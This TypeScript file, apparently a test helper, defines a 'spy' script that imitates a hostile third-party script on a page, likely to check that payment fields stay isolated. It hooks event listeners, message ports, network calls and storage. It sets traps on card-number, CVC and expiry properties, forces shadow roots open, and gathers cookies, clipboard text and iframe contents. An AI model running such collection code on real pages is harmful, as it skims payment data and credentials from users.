/** What a stranger's script has found in the page. */
export interface Loot {
  /** Everything as text, with where it was found. */
  readonly texts: readonly string[];
  /** The messages of all ports, in order: `to` the frame or `from` it. */
  readonly messages: readonly { readonly way: 'to' | 'from'; readonly data: unknown }[];
}

/**
 * Runs in the page before all other scripts, without access to its scope. It records what a script of the page can read:
 * `globalThis.loot()` returns it.
 */
export function spy(): void {
  const texts: string[] = [];
  const messages: { way: 'to' | 'from'; data: unknown }[] = [];
  const { stringify } = JSON;
  const pushText = texts.push.bind(texts);
  const pushMessage = messages.push.bind(messages);
  const dump = (value: unknown): string => {
    const seen = new Set<unknown>();
    const text = stringify(value, (_, member: unknown) => {
      if (typeof member !== 'object' || member === null) return typeof member === 'function' ? '' : member;
      if (seen.has(member) || member instanceof Node || member instanceof Window) return '';
      seen.add(member);
      return member instanceof Error
        ? { ...Object.fromEntries(Object.entries(member)), message: member.message, cause: member.cause }
        : member;
    }) as string | undefined;
    return text ?? String(value);
  };
  const keep = (where: string, ...values: unknown[]) => {
    for (const value of values) {
      try {
        pushText(`${where}: ${dump(value)}`);
      } catch {
        // of another origin
      }
    }
  };

  type Listen = (type: string, listener: (event: Event) => void, options?: unknown) => void;
  const listen = Reflect.get(EventTarget.prototype, 'addEventListener') as Listen;
  const watched = new WeakSet<object>();
  const watch = (port: MessagePort) => {
    if (watched.has(port)) return;
    watched.add(port);
    listen.call(port, 'message', (event) => {
      const { data, ports } = event as MessageEvent<unknown>;
      pushMessage({ way: 'from', data });
      for (const other of ports) watch(other);
    });
  };

  const Channel = globalThis.MessageChannel;
  globalThis.MessageChannel = class extends Channel {
    constructor() {
      super();
      watch(this.port1);
      (globalThis as unknown as { ports: MessagePort[] }).ports.unshift(this.port1);
    }
  };
  Object.assign(globalThis, { ports: [] });
  const postMessage = Reflect.get(MessagePort.prototype, 'postMessage') as (message: unknown) => void;
  MessagePort.prototype.postMessage = function (this: MessagePort, ...args: unknown[]) {
    pushMessage({ way: 'to', data: args[0] });
    Reflect.apply(postMessage, this, args);
  };

  EventTarget.prototype.addEventListener = function (this: EventTarget, type, listener, options) {
    const hear = (event: Event) => {
      keep(`event ${event.type}`, (event as CustomEvent<unknown>).detail, (event as MessageEvent).data);
      keep(`event ${event.type}`, (event as KeyboardEvent).key, (event as InputEvent).data);
      if (typeof listener === 'function') {
        listener.call(this, event);
        return;
      }
      return listener?.handleEvent(event);
    };
    listen.call(this, type, hear, options);
  };
  const types = 'keydown keyup beforeinput input change paste copy focusin message submit pointerdown selectionchange';
  const events = 'ready change field submit success pending failure unknown action'.split(' ');
  for (const type of [...types.split(' '), ...events.map((name) => `payment-${name}`)]) {
    listen.call(
      globalThis,
      type,
      (event) => {
        const { detail, data, key, target } = event as Event & Record<'detail' | 'data' | 'key', unknown>;
        keep(`event ${type}`, detail, data, key, (target as HTMLInputElement | null)?.value);
      },
      true,
    );
  }

  const wrap = (owner: object, name: string) => {
    const original = Reflect.get(owner, name) as (...args: unknown[]) => unknown;
    Reflect.set(owner, name, function (this: unknown, ...args: unknown[]) {
      keep(name, ...args);
      return Reflect.apply(original, this, args);
    });
  };
  wrap(globalThis, 'postMessage');
  wrap(globalThis, 'fetch');
  wrap(navigator, 'sendBeacon');
  wrap(XMLHttpRequest.prototype, 'send');
  wrap(Storage.prototype, 'setItem');
  wrap(Element.prototype, 'setAttribute');
  for (const name of ['map', 'filter', 'join', 'every', 'find', 'includes']) {
    const original = Reflect.get(Array.prototype, name) as (...args: unknown[]) => unknown;
    Reflect.set(Array.prototype, name, function (this: readonly unknown[], ...args: unknown[]) {
      for (const value of this) if (typeof value === 'string') pushText(`array: ${value}`);
      return Reflect.apply(original, this, args);
    });
  }
  for (const name of ['card', 'number', 'pan', 'cvc', 'security_code', 'expiry', 'payment_method', 'holder']) {
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      get: () => undefined,
      set(this: object, value: unknown) {
        keep(`setter ${name}`, value);
        Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
      },
    });
  }
  const attach: (this: Element, init: ShadowRootInit) => ShadowRoot = Reflect.get(Element.prototype, 'attachShadow');
  Element.prototype.attachShadow = function (this: Element, init) {
    return attach.call(this, { ...init, mode: 'open' });
  };

  const tryTo = (where: string, read: () => unknown) => {
    try {
      keep(where, read());
    } catch (error) {
      keep(where, String(error));
    }
  };
  const roots = (root: ParentNode): ParentNode[] => [
    root,
    ...[...root.querySelectorAll('*')].flatMap(({ shadowRoot }) => (shadowRoot ? roots(shadowRoot) : [])),
  ];
  const loot = async (): Promise<Loot> => {
    for (const root of roots(document)) {
      for (const element of root.querySelectorAll<HTMLInputElement>('*')) {
        keep('element', element.outerHTML, element.value, element.shadowRoot?.innerHTML);
        if (!(element instanceof HTMLIFrameElement)) continue;
        tryTo('contentDocument', () => element.contentDocument?.documentElement.outerHTML);
        tryTo('document', () => element.contentWindow?.document.body.innerHTML);
        tryTo('name', () => element.contentWindow?.name);
        tryTo('location', () => element.contentWindow?.location.href);
        tryTo('storage', () => element.contentWindow?.sessionStorage);
        tryTo('getSelection', () => element.contentWindow?.getSelection()?.toString());
      }
    }
    for (let index = 0; index < frames.length; index++) tryTo('frames', () => frames[index]?.document.body.innerHTML);
    keep(
      'storage',
      Object.entries(localStorage),
      Object.entries(sessionStorage),
      document.cookie,
      history.state,
      location.href,
    );
    keep('performance', ...performance.getEntries().map(({ name }) => name));
    keep('selection', getSelection()?.toString(), document.title, window.name);
    await navigator.clipboard.readText().then(
      (text) => {
        keep('clipboard', text);
      },
      () => undefined,
    );
    keep('databases', await indexedDB.databases(), await caches.keys());
    return { texts: [...texts], messages: [...messages] };
  };
  Object.assign(globalThis, { loot });
}
